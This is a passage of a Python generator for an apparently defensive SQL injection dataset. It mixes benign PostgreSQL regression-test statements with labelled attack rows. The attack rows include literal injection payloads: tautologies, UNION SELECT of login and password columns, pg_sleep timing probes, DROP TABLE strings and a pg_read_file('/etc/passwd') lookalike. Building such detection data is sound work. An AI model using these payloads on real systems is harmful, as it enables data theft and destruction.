    ("boolean", "SELECT 'TrUe'::text::boolean AS true, 'fAlse'::text::boolean AS false"),
    ("boolean", "SELECT BOOLTBL1.*, BOOLTBL2.*\n   FROM BOOLTBL1, BOOLTBL2\n   WHERE BOOLTBL2.f1 <> BOOLTBL1.f1"),
    ("float8", "SELECT ' -INFINiTY   '::float8"),
    ("float8", "SELECT f.f1, f.f1 * '-10' AS x FROM FLOAT8_TBL f\n   WHERE f.f1 > '0.0'"),
    ("float8", "-- square root\nSELECT sqrt(float8 '64') AS eight"),
    ("float8", "SELECT |/ float8 '64' AS eight"),
    ("float8", "-- cube root\nSELECT ||/ float8 '27' AS three"),
    ("float8", "SELECT x, sind(x), sind(x) IN (-1,-0.5,0,0.5,1) AS sind_exact\nFROM (VALUES (0), (30), (90), (150), (180),\n      (210), (270), (330), (360)) AS t(x)"),
    ("text", "SELECT text 'this is a text string' = text 'this is a text string' AS true"),
    ("text", "select concat(1,2,3,'hello',true, false, to_date('20100309','YYYYMMDD'))"),
    ("text", "select quote_literal(e'\\\\')"),
    ("text", "select format('INSERT INTO %I VALUES(%L,%L)', 'mytab', 10, 'Hello')"),
    ("text", "-- positional parameters\nselect format('%1$s %3$s', 1, 2, 3)"),
    ("text", "select i, left('ahoj', i), right('ahoj', i) from generate_series(-5, 5) t(i) order by i"),
    ("merge", "MERGE INTO target t\nUSING source AS s\nON t.tid = s.sid\nWHEN MATCHED THEN\n\tDELETE"),
    ("merge", "-- insert some non-matching source rows to work from\nINSERT INTO source VALUES (4, 40)"),
    ("merge", "MERGE INTO target t\nUSING source AS s\nON t.tid = s.sid\nWHEN NOT MATCHED THEN\n\tINSERT DEFAULT VALUES"),
    ("date", "SELECT f1 FROM DATE_TBL WHERE f1 < '2000-01-01'"),
    ("date", "SELECT date 'January 8, 1999'"),
    ("date", "--\n-- epoch\n--\nSELECT EXTRACT(EPOCH FROM DATE '1970-01-01')"),
    ("date", "SELECT DATE_TRUNC('MILLENNIUM', TIMESTAMP '1970-03-20 04:30:00.00000')"),
    ("date", "select make_time(8, 20, 0.0)"),
    ("select_distinct", "--\n-- SELECT_DISTINCT\n--\n\n--\n-- awk '{print $3;}' onek.data | sort -n | uniq\n--\nSELECT DISTINCT two FROM onek ORDER BY 1"),
    ("select_distinct", "SELECT DISTINCT two, string4, ten\n   FROM onek\n   ORDER BY two using <, string4 using <, ten using <"),
    ("select_distinct", "SELECT null IS NOT DISTINCT FROM null as \"yes\""),
    ("select_distinct", "SELECT count(*) FROM\n  (SELECT DISTINCT two, four, two FROM tenk1) ss"),
]


# comment lines the regression files put before a statement, by file
REGRESS_COMMENTS = {
    "numeric": ["-- Simple check that ceil(), floor(), and round() work correctly", "-- Tests for round() and trunc() with a negative scale", "--\n-- Test code path for raising to integer powers\n--", "-- Check rounding"],
    "interval": ["-- test inputting and outputting SQL standard interval literals", "-- test justify_hours() and justify_days()", "-- check fractional inputs", "--\n-- INTERVAL\n--"],
    "jsonb": ["-- jsonb_set", "-- jsonb containment", "-- nested path extraction", "-- test jsonb_insert"],
    "subselect": ["-- Correlated subselects", "-- Use some existing tables in the regression test", "-- Test cases to catch unpleasant interactions between IN-join processing\n-- and subquery pullup."],
    "case": ["-- Test nested CASEs", "-- Simplest examples without tables", "-- Test for cases involving untyped literals in test expression"],
    "horology": ["-- Test various input formats", "-- Check of timestamp/time/date OVERLAPS", "--\n-- Formats\n--"],
    "limit": ["--\n-- Check the LIMIT/OFFSET feature of SELECT\n--", "-- Stress test for variable LIMIT in conjunction with bounded-heap sorting"],
    "union": ["-- Mixed types", "-- Test that expression-index constraints can be pushed down through\n-- UNION or UNION ALL", "--\n-- INTERSECT and EXCEPT\n--"],
    "boolean": ["-- check bool input syntax", "-- 'yes' and 'no' should work", "-- Tests for BooleanTest"],
    "float8": ["-- test for over- and underflow", "-- test exact cases for trigonometric functions in degrees", "-- hyperbolic functions"],
    "text": ["-- text_left and text_right", "--\n-- test concat and concat_ws\n--", "--\n-- test format\n--"],
    "merge": ["-- sanity check", "-- equivalent of an UPDATE join", "-- unconditional DELETE"],
    "date": ["-- test extract", "--\n-- test trunc function!\n--", "-- oldstyle date"],
    "select_distinct": ["--\n-- Also, some tests of IS DISTINCT FROM, which doesn't quite deserve its\n-- own test file.\n--", "-- Check mentioning of the same expression twice"]}


def regress_rows(r):
    """The fixed statements, and more in the same files' manner with other values (about a third with the
    comment lines such a statement has before it in its file)."""
    out, add0 = regress_list("regress23", REGRESS_FIXED)

    def add(f, stmt):
        if r.random() < 0.33:
            stmt = r.choice(REGRESS_COMMENTS[f]) + r.choice(["\n", "\n\n"]) + stmt
        add0(f, stmt)
    units = ["years", "months", "days", "hours", "minutes", "seconds", "weeks"]
    for _ in range(30):
        a, b, c = r.randint(1, 999), r.randint(1, 99), r.randint(0, 6)
        add("numeric", r.choice(["SELECT round(%d.%02d, %d)" % (a, b, c), "SELECT trunc(%d.%03d, -%d)" % (a, b, c % 3 + 1), "SELECT width_bucket(%d.%d, 0.0, 1000.0, %d)" % (a, b, c + 2),
                                 "select div(%d, %d)" % (a * 1001, b), "SELECT to_char(%d.%02d::numeric, 'FM9999.99')" % (a, b), "SELECT to_number('%d,%03d.%d', '99G999D9')" % (b, a, c),
                                 "SELECT ceil(%d.%d), floor(-%d.%d)" % (a, b, a, b), "SELECT mod(%d::numeric, %d)" % (a, b), "SELECT %d.%d::numeric(%d,%d)" % (b, c, c + 6, c % 3),
                                 "SELECT sqrt(%d::numeric)" % a, "SELECT ln(%d::numeric)" % a, "select %d.%d ^ %d" % (b, c, c % 4 + 1)]))
    for _ in range(30):
        a, b = r.randint(1, 60), r.randint(0, 59)
        add("interval", r.choice(["SELECT INTERVAL '%d %s' AS \"%d %s\"" % (a, r.choice(units), a, r.choice(units)), "INSERT INTO INTERVAL_TBL (f1) VALUES ('@ %d %s')" % (a, r.choice(units)),
                                  "select justify_days(interval '%d days')" % (a * 7), "SELECT interval '%d hours' * %d.5" % (a, b % 4), "SELECT '%d:%02d'::interval" % (a % 24, b),
                                  "select interval 'P%dY%dM%dD'" % (a % 9, b % 12, a % 28), "SELECT extract(%s from interval '%d days %d hours')" % (r.choice(["day", "hour", "epoch"]), a, b % 24),
                                  "select '%d days'::interval = '%d hours'::interval as f" % (a, a * 24 + b % 2)]))
    for _ in range(30):
        a, b = r.randint(1, 99), r.randint(1, 99)
        w, w2 = rword(r, r.randint(1, 5)), rword(r, r.randint(1, 5))
        add("jsonb", r.choice(["SELECT '{\"%s\": %d}'::jsonb -> '%s'" % (w, a, w), "SELECT '{\"%s\": {\"%s\": %d}}'::jsonb #>> '{%s,%s}'" % (w, w2, a, w, w2),
                               "SELECT '[%d, %d, %d]'::jsonb @> '[%d]'" % (a, b, a + b, b), "select jsonb_set('{\"%s\": 1}', '{%s}', '%d')" % (w, w, a),
                               "SELECT jsonb_array_length('[%s]')" % ", ".join(str(i) for i in range(a % 7)), "select '{\"%s\":%d, \"%s\":%d}'::jsonb - '%s'" % (w, a, w2, b, w),
                               "SELECT jsonb_build_object('%s', %d, '%s', '%s')" % (w, a, w2, rword(r, 4)), "SELECT '{\"%s\": null}'::jsonb ? '%s'" % (w, w)]))
    for _ in range(20):
        a, b, c = r.randint(1, 9), r.randint(1, 9), r.randint(1, 9)
        add("subselect", r.choice(["SELECT %d AS one WHERE %d IN (SELECT %d)" % (a, a, a), "INSERT INTO SUBSELECT_TBL VALUES (%d, %d, %d)" % (a, b, c),
                                   "SELECT f1 FROM SUBSELECT_TBL WHERE f2 > ANY (SELECT f3 FROM SUBSELECT_TBL WHERE f3 < %d)" % (a + 1),
                                   "select exists(select * from tenk1 where unique1 = %d)" % (a * 100 + b), "SELECT * FROM (SELECT %d AS x, %d AS y) ss WHERE x < y" % (a, b),
                                   "SELECT f1 AS \"Correlated Field\", f2 AS \"Second Field\"\n  FROM SUBSELECT_TBL upper\n  WHERE f1 IN (SELECT f2 FROM SUBSELECT_TBL WHERE f1 = upper.f1 + %d)" % c]))
    for _ in range(20):
        a, b = r.randint(1, 9), r.randint(1, 9)
        add("case", r.choice(["SELECT CASE WHEN %d > %d THEN 'greater' ELSE 'not greater' END" % (a, b), "INSERT INTO CASE_TBL VALUES (%d, %d.%d)" % (a, a * 10, b),
                              "INSERT INTO CASE2_TBL VALUES (%d, %d)" % (a, -b), "SELECT CASE %d WHEN %d THEN 'one' WHEN %d THEN 'two' ELSE 'other' END" % (a, b, a),
                              "SELECT CASE WHEN i > %d THEN i ELSE f END FROM CASE_TBL" % a, "SELECT COALESCE(a.f, b.i, b.j) FROM CASE_TBL a, CASE2_TBL b WHERE a.i = %d" % a]))
    for _ in range(30):
        d, d2 = rdate(r, 1997, 2030), rdate(r, 1997, 2030)
        a = r.randint(1, 48)
        add("horology", r.choice(["SELECT to_date('%s', 'YYYY-MM-DD')" % d, "SELECT timestamp '%s %02d:%02d' + interval '%d hours'" % (d, a % 24, a, a),
                                  "SELECT date '%s' - date '%s' AS \"days\"" % (d, d2), "SELECT time '%02d:%02d' + interval '%d minutes'" % (a % 24, a, a * 3),
                                  "SELECT (date '%s', date '%s') OVERLAPS (date '%s', interval '%d days') AS \"overlaps\"" % (min(d, d2), max(d, d2), d, a),
                                  "SELECT timestamp with time zone '%s %02d:00+%02d'" % (d, a % 24, a % 12), "SELECT to_char(timestamp '%s', 'Dy DD Mon YYYY')" % d]))
    for _ in range(18):
        a, b = r.randint(1, 900), r.randint(1, 9)
        add("limit", r.choice(["SELECT ''::text AS two, unique1, unique2, stringu1\n\t\tFROM onek WHERE unique1 > %d\n\t\tORDER BY unique1 LIMIT %d" % (a, b),
                               "SELECT thousand FROM onek WHERE thousand < %d ORDER BY thousand FETCH FIRST %d ROWS WITH TIES" % (b + 2, b), "select * from int8_tbl offset %d" % b,
                               "SELECT unique1 FROM onek ORDER BY unique1 OFFSET %d ROWS FETCH NEXT %d ROWS ONLY" % (a, b)]))
    for _ in range(30):
        a, b, c = r.randint(1, 99), r.randint(1, 99), r.randint(1, 9)
        add("union", r.choice(["SELECT %d AS two UNION SELECT %d ORDER BY 1" % (a, b), "SELECT %d.%d AS two UNION ALL SELECT %d ORDER BY 1" % (a, c, b),
                               "(SELECT %d) UNION (SELECT %d) INTERSECT (SELECT %d)" % (a, b, a), "SELECT q1 FROM int8_tbl EXCEPT SELECT q2 FROM int8_tbl WHERE q2 > %d ORDER BY 1" % (a * 100),
                               "SELECT f1 AS ten FROM VARCHAR_TBL\nUNION ALL\nSELECT f1 FROM CHAR_TBL WHERE f1 <> '%s'" % rword(r, 2), "SELECT %d AS three UNION SELECT %d UNION SELECT %d ORDER BY 1" % (a, b, c)]))
    for _ in range(18):
        v = r.choice(["t", "true", "y", "yes", "on", "1", "f", "false", "n", "no", "off", "0"])
        add("boolean", r.choice(["SELECT bool '%s' AS %s" % (v, "true" if v in ("t", "true", "y", "yes", "on", "1") else "false"),
                                 "INSERT INTO BOOLTBL2 (f1) VALUES (bool '%s')" % v, "SELECT '%s'::text::boolean" % v.upper(), "SELECT bool '%s' or bool '%s' AS x" % (v, r.choice(["t", "f"])),
                                 "SELECT istrue AS \"t\", isfalse AS \"f\" FROM booltbl3 WHERE d = '%s'" % rword(r, 3)]))
    for _ in range(20):
        a, b = r.randint(1, 999), r.randint(1, 9)
        add("float8", r.choice(["INSERT INTO FLOAT8_TBL(f1) VALUES ('%d.%de%d')" % (a, b, b), "SELECT '%de%d'::float8" % (b, a % 300), "SELECT |/ float8 '%d' AS x" % (a * a),
                                "SELECT ||/ float8 '%d' AS x" % (b ** 3), "SELECT sind(%d), cosd(%d)" % (a % 360, a % 360), "SELECT '%d.%d'::float8 ^ '%d'" % (b, a, b % 4),
                                "SELECT f.f1, f.f1 + '%d' AS x FROM FLOAT8_TBL f" % a]))
    for _ in range(30):
        w, w2 = rword(r, r.randint(2, 7)), rword(r, r.randint(2, 7))
        a = r.randint(-5, 9)
        add("text", r.choice(["select concat_ws('%s', '%s', '%s')" % (r.choice(["#", ",", " | "]), w, w2), "select format('INSERT INTO %%I VALUES(%%L)', '%s', '%s')" % (w, w2),
                              "select reverse('%s')" % w, "select left('%s', %d), right('%s', %d)" % (w, a, w2, a), "SELECT text '%s' = text '%s' AS %s" % (w, w, "true"),
                              "select format('%%s, %%s', '%s', '%s')" % (w.capitalize(), w2), "select concat('%s', %d, NULL, '%s')" % (w, a, w2)]))
    for _ in range(24):
        a, b = r.randint(1, 20), r.randint(1, 200)
        add("merge", r.choice(["MERGE INTO target t\nUSING (SELECT %d AS sid, %d AS delta) AS s\nON t.tid = s.sid\nWHEN MATCHED THEN\n\tUPDATE SET balance = balance + s.delta\nWHEN NOT MATCHED THEN\n\tINSERT VALUES (s.sid, s.delta)" % (a, b),
                               "INSERT INTO source VALUES (%d, %d)" % (a, b), "INSERT INTO target VALUES (%d, %d)" % (a, b * 10),
                               "MERGE INTO target t\nUSING source AS s\nON t.tid = s.sid AND s.delta > %d\nWHEN MATCHED THEN\n\tUPDATE SET balance = 0" % b]))
    for _ in range(20):
        d = rdate(r, 1950, 2040)
        add("date", r.choice(["INSERT INTO DATE_TBL VALUES ('%s')" % d, "SELECT date '%s'" % d, "SELECT EXTRACT(%s FROM DATE '%s')" % (r.choice(["YEAR", "MONTH", "DOY", "ISODOW", "QUARTER"]), d),
                              "select make_date(%s, %d, %d)" % (d[:4], int(d[5:7]), int(d[8:10])), "SELECT f1 - date '%s' AS \"Days From 2K\" FROM DATE_TBL" % d]))
    for _ in range(24):
        col = r.choice(["two", "four", "ten", "string4", "hundred"])
        add("select_distinct", r.choice(["SELECT DISTINCT %s FROM onek ORDER BY 1" % col, "SELECT %d IS DISTINCT FROM %d as \"%s\"" % (r.randint(1, 9), r.randint(1, 9), rword(r, 3)),
                                         "SELECT count(*) FROM\n  (SELECT DISTINCT %s, ten FROM tenk1) ss" % col, "SELECT DISTINCT ON (%s) %s, ten FROM onek ORDER BY %s, ten DESC" % (col, col, col)]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "dollar_quote", "e_escape", "sqlmap", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "token": "input_formatted", "email": "input_url_email",
               "json": "input_json_text", "jkey": "input_plain"}
TRUNC_STYLES = [("dashdash", "--"), ("dashdash", "--"), ("dashdash_space", "-- "), ("dashdash_space", "-- "), ("dashdash_dash", "-- -"), ("dashdash_plus", "--+"),
                ("block_open", "/*"), ("semicolon_dashdash", ";--"), ("semicolon_space_dashdash", "; --"), ("dashdash_word", None),
                ("dashdash_word", None), ("dashdash_dash", "-- -"), ("hash_mysql", "#"), ("block_comment_closed_dashdash", "/* x */--")]
BYPASS = [("addslashes_into_standard_string", "t23_vb6_contractor_login", "a", "flying_u' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t23_odoo_spike_update", "b", "\\', spike_count = 99 -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t23_drupal_charter_ref", "a", "x' UNION SELECT login, password, NULL, NULL FROM res_users -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t23_gambas_vehicle_search", "a", "Ford' AND pg_sleep(4) IS NOT NULL -- ", addslashes),
          ("backslash_quote_into_standard_string", "t23_moodle_musher_email", "a", "x') OR ('b'='b", backslash_quotes),
          ("doubling_into_e_string", "t23_nifi_shed_insert", "c", "\\'); DROP TABLE shed_records; -- ", double_quotes)]
# attack-looking strings PostgreSQL does not read as quotes or escapes where they land (they stay data)
LOOKALIKES = [("admin\u2018 OR 1=1 --", "lookalike:left_single_quote"), ("x\u2032; DROP TABLE yacht_charters; --", "lookalike:prime"),
              ("%25%32%37%20OR%201=1--", "lookalike:percent_encoded_digits"), ("&#39; UNION SELECT password FROM jos_users --", "lookalike:html_decimal_entity"),
              ("\u0060 OR \u0060a\u0060=\u0060a", "lookalike:backtick"), ("\\u0027 OR pg_sleep(5) IS NULL --", "lookalike:unicode_escape_text"),
              ("\ufe6a27; SELECT pg_read_file('/etc/passwd'); --", "lookalike:small_percent_27"), ("%u0027) OR (1=1", "lookalike:iis_unicode_escape"),
              ("\u00ab OR \u00bb1\u00ab=\u00bb1", "lookalike:guillemets")]

def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 5))


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "x", "1", "test"], "spaces": ["", " ", " ", "", "  "]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 99999)), str(r.randint(1, 60)), "%d.%02d" % (r.randint(0, 500), r.randint(0, 99)), str(r.randint(10 ** 5, 10 ** 9)),
                     "0", "-%d" % r.randint(1, 50), "%d.0" % r.randint(1, 30), "%de%d" % (r.randint(1, 9), r.randint(1, 4)), "0.%03d" % r.randint(1, 999), "%d.25" % r.randint(1, 9)])


STRICT_NUMBERS = ("t23_sqlkit_repot_insert", "t23_komapper_gig_insert", "t23_strapi_review_insert", "t23_asp_stock_delete", "t23_nextcloud_loyalty",
                  "t23_sqlsugar_service_note", "t23_korma_beard_note", "t23_orator_visitor_feedback", "t23_gambas_skip_hire", "t23_nifi_shed_insert",
                  "t23_joomla_yacht_list", "t23_linq2db_board_hands", "t23_rom_egg_incubation")

def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes, and no
    fraction or exponent where an id, a number, a year or a minute goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or tpl[0] in STRICT_NUMBERS
    if strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6):
        return True
    pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
    idlike = re.search(r'(?i)(id|_no|year|_number|incubator_no|bench|grade|number|performance|sessionid|courseid|userid)"?\s*(=|IN \(|>=|<=)\s*$', pre)
    return bool(idlike) and ("." in val or "e" in val)


def formatted_value(r):
    return r.choice(["YC-%04d" % r.randint(1, 9999), "BERTH %s%d" % (r.choice("ABCD"), r.randint(1, 60)), "%d cm pot" % r.randint(5, 30), "%d.%d kg" % (r.randint(0, 140), r.randint(0, 9)),
                     "%+d s/d" % r.randint(-20, 20), "Bd %d" % r.randint(1, 36), "%d yd" % r.choice([4, 6, 8, 12]), "WJ-%05d" % r.randint(1, 99999),
                     "%d.%d C" % (r.randint(20, 45), r.randint(0, 9)), "Perf %d" % r.randint(1, 6), "%s %d" % (r.choice(["Bench", "Run", "Pen"]), r.randint(1, 30))])

def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.4:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 99999, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    for row in corpus.rows:
        # dev.jsonl tags a UNION request that only detects the column count as :payload
        row["variant"] = row["variant"].replace(":detection", ":payload")
    corpus.payloads += LOOKALIKES * 12
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f23-%06d", "twentythird")
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "twentythird.jsonl.gz")
    used = {row["template"] for row in corpus.rows if row["template"].startswith("t23_")}
    print("templates: %d application templates (%d with rows), %d complex generators, %d regression files" % (
        len(T), len(used), len({row["template"] for row in corpus.rows if row["template"].startswith("cx23_")}),
        len({row["template"] for row in corpus.rows if row["template"].startswith("regress23:")})))
    with open(out, "rb") as fh:
        print("sha256", hashlib.sha256(fh.read()).hexdigest(), out)


if __name__ == "__main__":
    main()
